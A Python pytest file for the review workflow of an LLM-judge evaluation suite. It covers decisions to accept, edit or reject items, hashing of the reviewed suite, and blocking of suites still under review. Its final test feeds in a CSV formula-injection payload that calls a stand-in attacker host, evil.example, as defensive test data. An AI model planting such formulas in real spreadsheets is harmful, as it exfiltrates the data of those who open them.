"""The reviewed suite is what was decided, and nothing undecided or rejected reaches a judge."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from jrh_mlflow.errors import ReviewError, SuiteError
from jrh_mlflow.judges.scripted import Oracle
from jrh_mlflow.measuring.evaluate import evaluate
from jrh_mlflow.measuring.resolve import load_suite
from jrh_mlflow.review.contents import open_catalog
from jrh_mlflow.review.decisions import Click, ConflictError
from jrh_mlflow.review.finish import _events_csv, decide_from, finish, withdraw
from jrh_mlflow.schema.items import Labels
from jrh_mlflow.schema.presentation import Message
from jrh_mlflow.suites.suite import hold_back, read_suite
from tests.review.making import baseline, made, opened, reviewing, saved_suite


def decide(review, index, action, *, who="Ann", **more):
    _, entries = review.placed()
    entry = entries[index]
    with review.decisions.current() as standings:
        version = standings.of(entry.key).version
    review.hold()
    return review.decisions.decide(entry.key, Click(action=action, who=who, version=version, **more), entry.generated())


def reviewed(tmp_path):
    """Four flips: one accepted, one edited, one rejected, one undecided; four more items by code, untouched."""
    review = opened(saved_suite(tmp_path / "suite"))
    decide(review, 0, "accept")
    decide(review, 2, "edit", text="It is Rome.", label="pass")
    decide(review, 4, "reject", reason="no")
    return review


def test_the_reviewed_suite_holds_exactly_what_was_decided(tmp_path):
    review = reviewed(tmp_path)
    parent = {item.id: item for item in review.content().items}
    done = finish(review, who="Ann", allow_undecided=True)
    suite = read_suite(done.path)
    kept = {item.id: item for item in suite.items}
    assert parent.keys() - kept.keys() == {"s0002/label_flip", "s0003/label_flip"}
    assert list(kept) == [name for name in parent if name in kept]
    for name in kept.keys() - {"s0000/label_flip", "s0001/label_flip"}:
        assert kept[name] == parent[name]
    accepted, edited = kept["s0000/label_flip"], kept["s0001/label_flip"]
    assert accepted.response == parent[accepted.id].response
    assert accepted.meta["review"]["state"] == "accepted"
    assert (edited.response, edited.expected) == ("It is Rome.", "pass")
    about = edited.meta["review"]
    assert (about["state"], about["by"], about["label_before"]) == ("edited", "Ann", "fail")
    assert about["text_before"] == parent[edited.id].response
    assert done.left_out == {"rejected": 1, "undecided": 1}


def test_what_was_decided_is_counted_by_test_and_by_the_first_message_that_was_changed(tmp_path):
    flips = finish(reviewed(tmp_path), who="Ann", allow_undecided=True).suite.origin["decided"]
    states = {row["state"]: row["n"] for row in flips if row["test"] == "label_flip"}
    assert states == {"accepted": 1, "edited": 1, "rejected": 1, "undecided": 1}
    assert {row["message"] for row in flips} == {None}
    messages = tuple(Message(role="assistant", content=f"step {n}") for n in range(4))
    items = [
        replace(
            made(f"s{n}", "", test="agent_perturbation", edited=[place, 3]),
            kind="transcript",
            response=None,
            transcript=messages,
        )
        for n, place in enumerate((2, 2, 1))
    ]
    review = opened(saved_suite(tmp_path / "agents", items))
    for index, action in enumerate(("accept", "reject", "accept")):
        decide(review, index, action, reason="no")
    assert finish(review, who="Ann").suite.origin["decided"] == [
        {"test": "agent_perturbation", "message": 2, "state": "accepted", "n": 1},
        {"test": "agent_perturbation", "message": 3, "state": "accepted", "n": 1},
        {"test": "agent_perturbation", "message": 3, "state": "rejected", "n": 1},
    ]


def test_the_reviewed_suite_has_a_hash_of_its_own_and_names_its_parent(tmp_path):
    review = reviewed(tmp_path)
    suite = read_suite(finish(review, who="Ann", allow_undecided=True).path)
    assert suite.origin["parent_sha256"] == read_suite(review.folder).sha256 != suite.sha256
    assert suite.origin["reviewed_by"] == ["Ann"]
    assert suite.name == "suite-reviewed"


def test_finishing_twice_gives_the_same_suite_and_a_later_decision_another_one(tmp_path):
    review = reviewed(tmp_path)
    first = finish(review, who="Ann", allow_undecided=True)
    again = finish(review, who="Ann", allow_undecided=True)
    assert (again.path, again.suite.sha256) == (first.path, first.suite.sha256)
    decide(review, 6, "accept", who="Bob")
    second = finish(review, who="Bob")
    assert (first.path.name, second.path.name) == ("suite-reviewed", "suite-reviewed-2")
    assert read_suite(first.path).sha256 == first.suite.sha256
    assert len(second.suite) == len(first.suite) + 1


def test_undecided_items_stop_the_end_of_a_review_unless_that_is_allowed(tmp_path):
    review = reviewed(tmp_path)
    with pytest.raises(ConflictError, match="1 of 4 items are undecided"):
        finish(review, who="Ann")
    assert not review.result.exists()


def test_a_reworded_question_is_edited_in_the_question(tmp_path):
    asked = replace(made("s", "plain", test="rubric_paraphrase", expected="pass"), rubric="Is it correct?")
    review = opened(saved_suite(tmp_path / "suite", [baseline("s", "plain"), asked]))
    _, entries = review.placed()
    assert (entries[0].part, entries[0].original) == ("rubric", "Is the answer right?")
    decide(review, 0, "edit", text="Is the reply right?")
    item = finish(review, who="Ann").suite.items[1]
    assert (item.rubric, item.response) == ("Is the reply right?", "plain")


def test_what_the_labels_mean_is_shown_beside_a_reworded_question_and_kept_when_it_is_edited(tmp_path):
    meant = Labels(answers=("fail", "pass"), meanings={"fail": "wrong <b>", "pass": "right"})
    base = replace(baseline("s", "plain"), rubric=meant.question("Is the answer right?"))
    asked = made("s", "plain", test="rubric_paraphrase", expected="pass")
    asked = replace(asked, rubric=meant.question("Is it correct?"))
    folder = saved_suite(tmp_path / "suite", [base, asked])
    review = opened(folder)
    _, entries = review.placed()
    assert (entries[0].part, entries[0].original) == ("rubric", "Is the answer right?")
    assert entries[0].generated().text == "Is it correct?"
    with reviewing(folder) as client:
        key = client.get("/api/suites")[0]["key"]
        shown = client.get(f"/api/suites/{key}/items/0")
    assert (shown["labels"], shown["meanings"]) == (["fail", "pass"], {"fail": "wrong <b>", "pass": "right"})
    assert shown["perturbed"] == "Is it correct?"
    decide(review, 0, "edit", text="Is the reply right?")
    assert finish(review, who="Ann").suite.items[1].rubric == meant.question("Is the reply right?")


def test_a_review_that_accepted_nothing_makes_no_suite(tmp_path):
    review = opened(saved_suite(tmp_path / "suite", [baseline("s", "plain"), made("s", "odd")]))
    decide(review, 0, "reject", reason="odd")
    with pytest.raises(ReviewError, match="Nothing was accepted"):
        finish(review, who="Ann")


def test_a_suite_under_review_reaches_no_judge_until_it_is_finished(tmp_path, store_uri):
    review = reviewed(tmp_path)
    loaded_before = load_suite(review.folder)
    for suite in (review.folder, str(review.folder), loaded_before):
        with pytest.raises(SuiteError, match=r"under review.* SUITE --finish --reviewer NAME`.*--allow-undecided"):
            evaluate(Oracle(), suite, tracking_uri=store_uri, experiment="review", progress=False)
    done = finish(review, who="Ann", allow_undecided=True)
    with pytest.raises(SuiteError, match="was reviewed: use 'suite-reviewed'"):
        evaluate(Oracle(), review.folder, tracking_uri=store_uri, experiment="review", progress=False)
    came = evaluate(Oracle(), done.path, tracking_uri=store_uri, experiment="review", progress=False)
    assert set(came.calls["suite_item"]) == {item.id for item in done.suite.items}
    assert not {"s0002/label_flip", "s0003/label_flip"} & set(came.calls["suite_item"])


def test_a_copy_of_a_suite_under_review_is_held_back_too(tmp_path):
    copy = saved_suite(tmp_path / "copy")
    hold_back(load_suite(copy))
    review = reviewed(tmp_path)
    with pytest.raises(SuiteError, match="under review"):
        hold_back(load_suite(copy))
    finish(review, who="Ann", allow_undecided=True)
    with pytest.raises(SuiteError, match="use 'suite-reviewed'"):
        hold_back(load_suite(copy))


def test_marking_a_suite_leaves_its_items_and_hash_alone(tmp_path):
    folder = saved_suite(tmp_path / "suite")
    before = (folder / "suite.jsonl").read_bytes(), read_suite(folder).sha256
    opened(folder).hold()
    assert ((folder / "suite.jsonl").read_bytes(), read_suite(folder).sha256) == before
    assert json.loads((folder / "manifest.json").read_text())["origin"] == {"builder": "generate", "review": "open"}


def test_a_withdrawn_review_gives_the_suite_back(tmp_path):
    review = reviewed(tmp_path)
    assert withdraw(open_catalog((str(review.folder),))) == ["suite: review withdrawn, 1 items undecided"]
    hold_back(load_suite(review.folder))


def test_there_must_be_something_to_review(tmp_path):
    with pytest.raises(ReviewError, match=r"no suite in .*nowhere"):
        open_catalog((str(tmp_path / "nowhere"),))
    folder = saved_suite(tmp_path / "plain", [baseline("s", "plain")])
    with pytest.raises(ReviewError, match="nothing to review"):
        open_catalog((str(folder),))


def test_the_table_of_decisions_runs_no_formula_and_can_be_taken_again(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    review = opened(saved_suite(tmp_path / "one"))
    decide(review, 0, "edit", text=formula, who="@Ann")
    decide(review, 2, "reject", reason=f"+{formula}")
    table = _events_csv(review)
    cells = [cell for row in csv.reader(io.StringIO(table.decode(), newline="")) for cell in row]
    assert formula in "".join(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    Path("decisions.csv").write_bytes(table)
    other = opened(saved_suite(tmp_path / "two"))
    assert decide_from(other, "decisions.csv") == 2
    assert [event.after.text for event in other.decisions.events()] == [formula, None]
